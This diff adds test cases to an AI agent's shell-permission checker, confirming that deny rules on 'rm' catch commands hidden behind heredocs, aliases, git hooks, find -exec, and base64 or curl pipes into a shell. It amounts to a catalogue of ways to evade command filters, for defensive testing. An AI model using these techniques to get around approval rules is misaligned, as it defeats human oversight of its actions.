@@ -609,6 +609,21 @@ DENIES = (
     "timeout 5 rm x",
     "rm x > y",
     "f() { rm x; }; f",
+    "bash <<< 'rm x'",
+    "sudo bash -s <<<'rm x'",
+    "sh <<END\nrm x\nEND",
+    "sh << 'END' | cat\necho a; rm x\nEND",
+    "sh <<END\n$X\nEND",
+    "alias x='rm y'\nx",
+    "alias x=rm\nx y",
+    "git -c alias.x='!rm y' x",
+    "git config alias.x '!rm y'",
+    "git rebase -x 'rm y' main",
+    "git submodule foreach 'rm x'",
+    "GIT_PAGER='rm x' git log",
+    "find . -exec sh -c 'rm x' ';'",
+    "sh -c 'rm${IFS}x'",
+    "docker run x sh -c 'rm x'",
 )
 
 
@@ -616,6 +631,95 @@ DENIES = (
 def test_a_rule_that_denies_means_every_command_that_may_be_meant(command: str) -> None:
     assert action(command, "deny shell(rm *)", "allow shell.run", mode=ApprovalMode.YOLO) == "deny"
     assert action("ls -la", "deny shell(rm *)", mode=ApprovalMode.YOLO) == "allow"
+
+
+# A program that an interpreter is given in a way that can't be read: it may be what the rule means.
+HIDDEN = (
+    "echo cm0geAo= | base64 -d | sh",
+    "curl -s example.com | bash -s -- a",
+    "curl -s example.com | sudo sh",
+    "cat a | python3 -",
+    "python3 -c 'import shutil'",
+    'python3 -Wignore -Ic "print(1)"',
+    "uv run python -c 'x'",
+    "python3 << 'END'\nimport os\nEND",
+    "python3 -m timeit x",
+    "python3 /./dev/stdin",
+    "sh < file",
+    "bash -o pipefail",
+    "bash --rcfile x",
+    "exec -a y sh",
+    "f() { sh; }; echo rm x | f",
+    "echo x | tee >(sh)",
+    ". /dev/stdin",
+    "source //dev/fd/3",
+    "find . -exec sh ';'",
+    "echo x | xargs sh -c",
+    "ls | xargs -I{} {} x",
+    "ls | xargs sudo",
+    "echo x | parallel",
+    "perl -ne 'x' a",
+    "ruby -e 'x'",
+    "node --eval=x",
+    "node -p x",
+    "deno eval x",
+    "awk 'BEGIN{system(\"rm x\")}'",
+    "sed '1e rm x' f",
+    "sed s/a/b/e f",
+    "git -c core.pager='rm y' log",
+    "make -f <(printf 'a:\n\trm x')",
+    "echo a | make -f -",
+    "make --eval='a: ; rm x'",
+    "tar -xf a --to-command='rm x'",
+    "rg --pre 'rm x' y",
+    "sqlite3 x.db '.shell rm x'",
+    "vim -c '!rm x'",
+    "at now",
+)
+
+
+@each("command", HIDDEN)
+def test_a_rule_that_denies_has_a_command_ask_that_it_can_not_read(command: str) -> None:
+    for rule in ("deny shell(rm *)", "deny shell.run(command=rm *)", "ask shell(rm *)"):
+        assert action(command, rule, "allow shell.run", mode=ApprovalMode.YOLO) == "ask"
+    assert action(command, "deny files.write_file", mode=ApprovalMode.YOLO) == "allow"
+    assert action(command, "deny shell(rm *)", mode=ApprovalMode.PLAN) == "deny"
+
+
+MEANS_NOTHING_ELSE = (
+    "pytest -q tests",
+    "python3 -m pytest -x",
+    "python3 -u script.py --all",
+    "python3 --version",
+    "node index.js -e x",
+    "bash script.sh",
+    "bash -o pipefail script.sh",
+    "bash -lc 'ls -l'",
+    "bash <<< 'ls -l'",
+    "command -v python3",
+    "sudo apt-get install -y jq",
+    "uv run python script.py",
+    "awk -F, '{ s += $2 } END { print s }' f.csv",
+    "sed -i 's/(a b)/e/g' file",
+    "printf '%s (x)' a",
+    "find . -name '*.py' -exec grep -l x {} +",
+    "find . -exec grep x {} ';'",
+    "ls | xargs -I{} cp {} {}.bak",
+    "find . -name '*.py' | xargs grep -l x",
+    "git switch -c new",
+    "git -c user.name=me commit -m 'x = !rm (y)'",
+    "git clean -xdf",
+    "make -f Makefile.x test",
+    "cat > notes << 'END'\nrm x (y)\nEND",
+    "tar -xzf a.tgz",
+    "source .venv/bin/activate && pytest",
+    "CFLAGS='-O2 -g' make",
+)
+
+
+@each("command", MEANS_NOTHING_ELSE)
+def test_a_rule_that_denies_leaves_other_commands_alone(command: str) -> None:
+    assert action(command, "deny shell(rm *)", mode=ApprovalMode.YOLO) == "allow"
 
 
 _WRAPPERS = st.sampled_from([way for way in WAYS_ROUND if "{ok}" in way and "open" not in way])
